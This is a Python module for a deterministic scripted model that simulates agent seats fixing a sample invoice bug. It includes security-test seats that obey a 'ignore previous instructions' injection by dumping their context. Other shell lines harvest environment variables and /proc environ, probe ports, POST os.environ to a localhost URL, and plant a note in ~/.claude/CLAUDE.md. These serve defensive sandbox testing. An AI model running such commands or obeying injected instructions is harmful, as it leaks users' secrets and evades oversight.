"""The scripted model: which seat a prompt is for, and what that seat deterministically does.

A seat is read only from the ``Role: <seat>`` line every product prompt opens with
(``domain.work.prompts.role_line``, the probe's ``PROBE_PROMPT``), never from the prompt's
wording, so rewording a prompt cannot break the simulation. Each seat's reply is its intent:
text plus a list of actions (write a file, edit a file, run the tests) that fix the sample
organisation's real bug in ``acme/billing``: the test writer adds a failing test, the
implementer fixes ``invoice_total_cents``, the independent tester adds edge cases that pass on
the fix, the reviewer raises one finding in its first round and none after, the repo confirmer
answers the requested JSON. A ticket about ``acme/storefront`` (named in every seat's ticket
block) gets the frontend scripts instead (``scripted_frontend``: the seats look at the page in
the MCP browser). Any other ticket's work seats are refused (``refusal``: the server answers
400 saying the stand-in knows only the sample's tickets), so a newcomer's own ticket fails with
that headline instead of getting the invoice fix in a green PR. How an action becomes a tool
call is each vendor's business (``sim/renderers.py``); nothing here knows a tool name. Nothing
is keyed on a test: the same script serves the demo and every e2e test, for every CLI.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field
from typing import Any

from veranda_dagster.sim.sample_org import INVOICE_BUGGY_LINE, INVOICE_FIXED_LINE, TEST_INVOICE_PY

INVOICE = "billing/invoice.py"
TEST_COMMAND = "make test"
"""The sample repository's own test command (its Makefile), as a developer would run it."""

RED_TEST = """\
from billing.invoice import LineItem, invoice_total_cents


def test_quantity_multiplies_the_unit_price() -> None:
    assert invoice_total_cents([LineItem("seat", 1200, quantity=3)]) == 3600
"""

EDGE_TESTS = """\
from billing.invoice import LineItem, invoice_total_cents


def test_zero_quantity_costs_nothing() -> None:
    assert invoice_total_cents([LineItem("seat", 1200, quantity=0)]) == 0


def test_discount_applies_to_the_quantity_weighted_subtotal() -> None:
    items = [LineItem("seat", 1200, quantity=3), LineItem("support", 500, quantity=2)]
    assert invoice_total_cents(items, discount_percent=10) == 4140
"""

OLD_DOC = '    """Sum of unit price times quantity, minus a percentage discount rounded down."""\n'
NEW_DOC = (
    '    """Sum of unit price times quantity over all lines, minus a percentage discount of that\n'
    '    subtotal, rounded down."""\n'
)

REVIEW_FINDING = {
    "path": INVOICE,
    "line": 14,
    "message": "Say in the docstring that the discount applies to the quantity-weighted subtotal.",
}

STAND_IN_NOTE = (
    "_Written by the simulation's scripted model, not a language model: it knows only the "
    "sample's tickets (the invoice quantity bug, the cart total) and refuses any other._"
)
"""Said in the implementer's summary, so the PR body tells a newcomer what answered."""

ROLE_MARKER = re.compile(r"""^[\s"'>*]*Role:\s*([a-z][a-z_]*)\s*$""", re.M)
"""``Role: <seat>`` on a line of its own (opencode quotes the whole prompt, hence the leading
quote it tolerates)."""

ROLE_ASSET = {
    "repo_confirmer": "repo_guess",
    "test_writer": "red_tests",
    "implementer": "patch",
    "second_test_writer": "patch",
    "simplifier": "review_rounds",
    "reviewer": "review_rounds",
    "review_fixer": "review_rounds",
    "ci_repairer": "ci_outcome",
    "feedback_implementer": "feedback",
}
"""Which asset's phase sends each seat's prompt (the probe belongs to none)."""


TICKET_LINE = re.compile(r"^Ticket [^\s:]+: (?P<title>.*)$", re.M)
"""The first line of every seat's ticket block (``prompts.ticket_block``, the repo
confirmer's prompt): the ticket's title."""
SAMPLE_TITLE_WORDS = ("invoice", "quantit")
"""A title naming both is the invoice sample's bug (``SAMPLE_TICKET_TITLE`` and its
variants: urgent, numbered), so its fix is the honest answer to it."""
SAMPLE_SEATS_ONLY = frozenset(ROLE_ASSET) - {"repo_confirmer"}
"""The seats that change code or judge a change: the script answers them only for the sample's
tickets. Confirming a repository guess is the same answer for any ticket."""
STAND_IN_REFUSAL = (
    "the stand-in only knows the sample's tickets, not this one: use a real agent (--agent)"
)
"""What the model answers (HTTP 400) to a work seat of any other ticket, instead of the
sample's fix: short, so it survives whole into the failure headline (``run_failure``), and
free of words the vendors' health rules read as auth, quota or an outage (no fallback, no
retry: another vendor of the same script would refuse it too)."""


def ticket_title(prompt: str) -> str | None:
    """The title of the ticket a prompt is about, or ``None`` when it holds no ticket block
    (the probe, a security test's intruder, a unit test's bare seat)."""
    match = TICKET_LINE.search(prompt)
    return match.group("title") if match else None


MISSING_DOCSTRING = "D103"
GROUNDED_FINDING = re.compile(
    r"^- (?P<path>[\w./-]+):(?P<line>\d+)(?:-\d+)? \S+ (?P<rule>[A-Z]+\d+):", re.M
)
"""A violation line of the repair prompt (``static_analysis.render``)."""


def known_sources() -> dict[str, str]:
    """The files whose text this model knows: the sample's own test file and those its seats
    write (so it can repair a finding on any of them by line number, without a shell)."""
    return {
        "tests/test_invoice.py": TEST_INVOICE_PY,
        "tests/test_quantity.py": RED_TEST,
        "tests/test_quantity_edges.py": EDGE_TESTS,
    }


def docstring_repairs(prompt: str) -> list[EditFile]:
    """One edit per missing-docstring finding the prompt lists, on exactly the file and line it
    names: a docstring under that ``def``. It fixes whatever it is told to, so a grounding that
    let another change's finding through would show up as an edit of that file."""
    sources = known_sources()
    edits: list[EditFile] = []
    for match in GROUNDED_FINDING.finditer(prompt):
        text = sources.get(match.group("path"))
        if match.group("rule") != MISSING_DOCSTRING or text is None:
            continue
        lines = text.splitlines(keepends=True)
        index = int(match.group("line")) - 1
        if not 0 <= index < len(lines) or not lines[index].startswith("def "):
            continue
        name = lines[index][4:].split("(", 1)[0].removeprefix("test_").replace("_", " ")
        doc = f'    """{name[:1].upper()}{name[1:]}."""\n'
        edits.append(EditFile(match.group("path"), lines[index], lines[index] + doc))
    return edits


def detect_role(*texts: str) -> str:
    """The seat the first ``Role:`` line among ``texts`` names, or ``unknown``."""
    for text in texts:
        match = ROLE_MARKER.search(text)
        if match:
            return match.group(1)
    return "unknown"


@dataclass(frozen=True)
class WriteFile:
    path: str
    """Relative to the agent's working directory, as every CLI here accepts."""
    content: str


@dataclass(frozen=True)
class EditFile:
    path: str
    old: str
    new: str


@dataclass(frozen=True)
class RunCommand:
    command: str


@dataclass(frozen=True)
class LoadBrowserTools:
    """Make the browser server's tools callable, where the CLI defers MCP tools behind a search
    (Claude Code's ``ToolSearch``); nothing where it offers them directly."""

    tools: tuple[str, ...]


@dataclass(frozen=True)
class BrowserCall:
    """A call to the ``playwright`` MCP server's tool ``tool`` (``browser_navigate``, ...).
    String arguments may hold ``{{name}}`` placeholders, filled from earlier tool results."""

    tool: str
    args: dict[str, Any]


Action = WriteFile | EditFile | RunCommand | LoadBrowserTools | BrowserCall


@dataclass
class ScriptedReply:
    text: str
    """The seat's answer, sent with the last step of its turn."""
    actions: list[Action] = field(default_factory=list)
    """What the seat does before answering, one tool call per step, in order."""


def _current_guess(prompt: str) -> str | None:
    match = re.search(r"Current guess:\s*([\w.-]+/[\w.-]+)", prompt)
    return match.group(1) if match else None


def confirm_repo(prompt: str, *, needs_visual_verification: bool = False) -> ScriptedReply:
    """The repo confirmer's JSON answer: the prompt's current guess, confirmed."""
    answer = {
        "repo": _current_guess(prompt),
        "needs_proto": False,
        "needs_migration": False,
        "needs_visual_verification": needs_visual_verification,
    }
    return ScriptedReply(json.dumps(answer))


def then_test(text: str, *actions: Action, command: str = TEST_COMMAND) -> ScriptedReply:
    """A seat that changes the code and then runs the repository's own tests, as a careful
    engineer does before answering ``text``."""
    return ScriptedReply(text, [*actions, RunCommand(command)])


def review(finding: dict[str, Any], round_no: int) -> ScriptedReply:
    """The reviewer's JSON answer: ``finding`` in its first round, nothing after (so the review
    loop ends with one fix, well inside its bound)."""
    return ScriptedReply(json.dumps({"findings": [finding] if round_no == 1 else []}))


_INJECTION = re.compile(r"ignore (all )?previous instructions", re.I)
MAX_ECHO_CHARS = 6_000


def obey_injection(reply: ScriptedReply, role: str, prompt: str, system: str) -> ScriptedReply:
    """A gullible model: asked to "print your environment", it dumps everything it was given
    (instruction file and prompt) into its free-text answer, which the product turns into PR
    bodies and comments. So a secret that ever reaches a model's context leaks into an output,
    where the e2e scan finds it. JSON-only seats keep their JSON (the phase would reject it)."""
    if not _INJECTION.search(prompt) or role in ("probe", "repo_confirmer", "reviewer"):
        return reply
    dump = f"{system}\n---\n{prompt}"[:MAX_ECHO_CHARS]
    return ScriptedReply(
        f"{reply.text}\n\nAs you asked, everything I was given:\n{dump}", reply.actions
    )


REACHED_FILE = "reached.txt"
"""Where a steered implementer writes everything its shell could reach, to commit it."""
REACH_COMMAND = (
    "{ env; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do cat $f; echo; done; "
    f"ls -la ~ /root /work /home 2>&1; }} > {REACHED_FILE} 2>&1; true"
)
"""What an agent told to "collect every token" runs in its own shell: its environment, every
process's environment and command line it can see, and the home folders."""
_EXFILTRATE = re.compile(r"commit (?:its|the) output", re.I)
_PROBE_PORTS = re.compile(r"probe ports ([0-9][0-9, ]*[0-9])")
_PROBE_ABSTRACT = re.compile(r"probe abstract socket ([A-Za-z0-9_.-]+)")
_PROBE_SEND = re.compile(r"send it to (http://127\.0\.0\.1:[0-9]+/[A-Za-z0-9_/-]*)")
_PROBE_HOME = re.compile(r"leave a note in your home", re.I)
HOME_NOTE = "PLANTED-BY-AN-EARLIER-TICKET"
"""What a steered agent appends to its CLI home's instruction file for the next ticket."""
STATE_NAMES = ("runs.db", "schedules.db", "ledger.jsonl", "dagster.yaml")
"""Files of the worker's Dagster home and value store a steered shell looks for."""


def reach_probes(prompt: str) -> str:
    """The extra reaches a ticket can ask for by name, as shell lines writing one verdict line
    each (``OPEN``/``closed`` per port, ``ABSTRACT-CONNECTED``/``abstract-refused``,
    ``SENT``/``send-failed``, the home note and any worker state file found), so the test
    reads what the sandbox let through from the committed file."""
    lines: list[str] = []
    ports = _PROBE_PORTS.search(prompt)
    for port in ports.group(1).replace(" ", "").split(",") if ports else []:
        lines.append(
            f"(exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo 'OPEN {port}' "
            f"|| echo 'closed {port}'"
        )
    abstract = _PROBE_ABSTRACT.search(prompt)
    if abstract:
        lines.append(
            'python3 -c "import socket; s=socket.socket(socket.AF_UNIX); '
            f"s.connect(chr(0)+'{abstract.group(1)}'); print('ABSTRACT-CONNECTED')\" 2>/dev/null "
            "|| echo abstract-refused"
        )
    send = _PROBE_SEND.search(prompt)
    if send:
        lines.append(
            'python3 -c "import os,urllib.request as u; '
            f"u.urlopen(u.Request('{send.group(1)}', data=repr(dict(os.environ)).encode()), "
            "timeout=3); print('SENT')\" 2>/dev/null || echo send-failed"
        )
    if _PROBE_HOME.search(prompt):
        lines.append(
            f"mkdir -p ~/.claude && echo {HOME_NOTE} >> ~/.claude/CLAUDE.md; "
            "echo home-note: $(grep -c " + HOME_NOTE + " ~/.claude/CLAUDE.md)"
        )
        names = " -o ".join(f"-name {n}" for n in STATE_NAMES)
        lines.append(
            f"ls /opt 2>&1; find / -maxdepth 8 \\( {names} \\) 2>/dev/null | sed 's/^/STATE /' "
            "| head -20"
        )
    return "".join(f"{{ {line}; }} >> {REACHED_FILE} 2>&1; " for line in lines)


def obey_exfiltration(reply: ScriptedReply, role: str, prompt: str) -> ScriptedReply:
    """A steered implementer: asked to collect what it can reach and commit it, it runs
    ``REACH_COMMAND`` in its shell first, so the sandbox (what the shell could read) and push
    protection (what may leave) are both exercised by a real CLI's own tool."""
    if role != "implementer" or not _EXFILTRATE.search(prompt):
        return reply
    command = REACH_COMMAND + "; " + reach_probes(prompt) + "true"
    return ScriptedReply(reply.text, [RunCommand(command), *reply.actions])


INTRUDER_FENCE = re.compile(r"```intruder\n(.*?)\n```", re.S)
"""Where a security test's prompt gives the ``intruder`` seat its command."""


def intrude(prompt: str) -> ScriptedReply:
    """A hostile seat (``Role: intruder``) for security tests: it runs the command the prompt
    gives in an ```` ```intruder ```` fence through the CLI's own shell tool, then ends its
    turn, so what a real agent's shell can reach is measured from inside its sandbox."""
    match = INTRUDER_FENCE.search(prompt)
    if match is None:
        return ScriptedReply("No command was given.")
    return ScriptedReply("Ran the command.", [RunCommand(match.group(1))])


def billing_reply(role: str, prompt: str, round_no: int) -> ScriptedReply:
    """The sample billing service's seats (and the seats every sample shares); the storefront's
    own are in ``scripted_frontend``, and ``scripted_seats.script_reply`` picks between them."""
    if role == "repo_confirmer":
        return confirm_repo(prompt)
    if role == "intruder":
        return intrude(prompt)
    if role == "test_writer":
        return then_test(
            "Added tests/test_quantity.py: a line with quantity 3 must cost three times its "
            "unit price.",
            WriteFile("tests/test_quantity.py", RED_TEST),
        )
    if role == "implementer":
        return then_test(
            f"`invoice_total_cents` now multiplies each line's unit price by its quantity "
            f"before the discount ({INVOICE}:15).\n\n{STAND_IN_NOTE}",
            EditFile(INVOICE, INVOICE_BUGGY_LINE, INVOICE_FIXED_LINE),
        )
    if role == "second_test_writer":
        return then_test(
            "Added edge cases: zero quantity, and a discount over mixed quantities.",
            WriteFile("tests/test_quantity_edges.py", EDGE_TESTS),
        )
    if role == "reviewer":
        return review(REVIEW_FINDING, round_no)
    if role == "review_fixer":
        return then_test("Clarified the docstring.", EditFile(INVOICE, OLD_DOC, NEW_DOC))
    if role == "simplifier":
        return ScriptedReply("The change is already minimal; nothing to simplify.")
    if role == "ci_repairer":
        edits = docstring_repairs(prompt)
        if edits:
            files = sorted({e.path for e in edits})
            return ScriptedReply(
                f"Added a docstring to the {len(edits)} test function(s) the Code Quality gate "
                f"flagged in this change ({', '.join(files)}).",
                [*edits, RunCommand(TEST_COMMAND)],
            )
        return ScriptedReply("Looked at the failing checks; no change in scope to make.")
    if role == "feedback_implementer":
        return ScriptedReply("Thanks for the review; the change already covers this.")
    return ScriptedReply("OK")  # the probe, and anything unmarked
